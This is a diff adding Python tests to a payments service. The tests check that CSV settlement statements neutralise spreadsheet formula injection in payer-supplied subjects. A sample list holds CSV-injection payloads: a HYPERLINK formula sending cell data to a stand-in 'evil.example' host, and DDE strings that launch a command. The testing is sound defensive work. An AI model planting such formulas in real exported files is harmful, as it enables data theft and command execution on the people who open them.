@@ -98,3 +98,85 @@ async def test_operations_list_a_day_and_record_the_payout(client, services, wec
         )
         == 1
     )
+
+
+# Cells a spreadsheet would run as formulas (OWASP "CSV injection"), as a payer may type them into a subject.
+_FORMULAS = [
+    '=HYPERLINK("http://evil.example/steal?d="&A1,"查看详情")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+async def _paid_with_subject(client, wechat, payee, subject: str, amount: int) -> dict:
+    from tests.helpers import bearer, login
+
+    person = await login(client)
+    created = await client.post(
+        "/api/v1/payments/orders",
+        headers={**bearer(person), "Idempotency-Key": uuid.uuid4().hex},
+        json={
+            "purpose": "ticket",
+            "amount_fen": amount,
+            "subject": subject,
+            "payee_id": payee["organisation"]["id"],
+            "channel": "wechat",
+            "method": "mini",
+            "payer_channel_id": "o-openid-1",
+        },
+    )
+    assert created.status_code == 201, created.text
+    order = created.json()
+    note = (await wechat.control("POST", f"_sandbox/trades/{order['out_trade_no']}/pay", {"deliver": False}))[
+        "notification"
+    ]
+    ack = await client.post(
+        "/api/v1/payments/notify/wechat", content=note["body"], headers={"Content-Type": note["content_type"]}
+    )
+    assert ack.status_code == 200
+    return order  # type: ignore[no-any-return]
+
+
+async def test_statement_cells_that_look_like_formulas_stay_text_and_amounts_stay_numbers(
+    client, services, wechat
+):
+    payee = await machine_credential(
+        client, services, ["payments:refund", "settlements:read"], kind="merchant"
+    )
+    orders = [await _paid_with_subject(client, wechat, payee, s, 1_000 + i) for i, s in enumerate(_FORMULAS)]
+    refund = await signed_with_key(
+        client, payee, f"/api/v1/payments/orders/{orders[0]['id']}/refunds", {"amount_fen": 500}
+    )
+    assert refund.status_code == 201, refund.text
+    async with services.pool.acquire() as conn, conn.transaction():
+        await services.payments.refunds.settle_pending(conn)
+    today = dt.datetime.now(BUSINESS_TZ).date()
+    async with services.pool.acquire() as conn, conn.transaction():
+        settled = await services.payments.settlement.settle_day(conn, today)
+    settlement = next(s for s in settled if str(s.payee_id) == payee["organisation"]["id"])
+
+    statement = await signed(
+        client, payee, "GET", f"/api/v1/payments/settlements/{settlement.id}/statement.csv"
+    )
+    assert statement.status_code == 200, statement.text
+    rows = list(csv.reader(io.StringIO(statement.text)))
+    lines = rows[1:-1]
+    assert sorted(r[4] for r in lines) == sorted(["'" + s for s in _FORMULAS] + ["'" + _FORMULAS[0]])
+    for row in rows[1:]:
+        # No cell a spreadsheet opens starts a formula...
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row
+        assert not any(cell.startswith("-") for cell in row[:6]), row
+    # ...while every amount is still a plain integer, the refund's negative ones included.
+    amounts = [int(cell) for row in rows[1:] for cell in row[6:9]]
+    assert any(a < 0 for a in amounts)
+    assert sum(int(r[8]) for r in lines) == settlement.net_fen == int(rows[-1][8])
+
+
+def test_spreadsheet_text_neutralises_every_formula_start_and_nothing_else():
+    from payments.settlement.service import spreadsheet_text
+
+    for cell in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
+        assert spreadsheet_text(cell) == "'" + cell
+    for cell in ("凤城河夜游", "T20261207-1", "", "1-2", "a=b", " =1"):
+        assert spreadsheet_text(cell) == cell
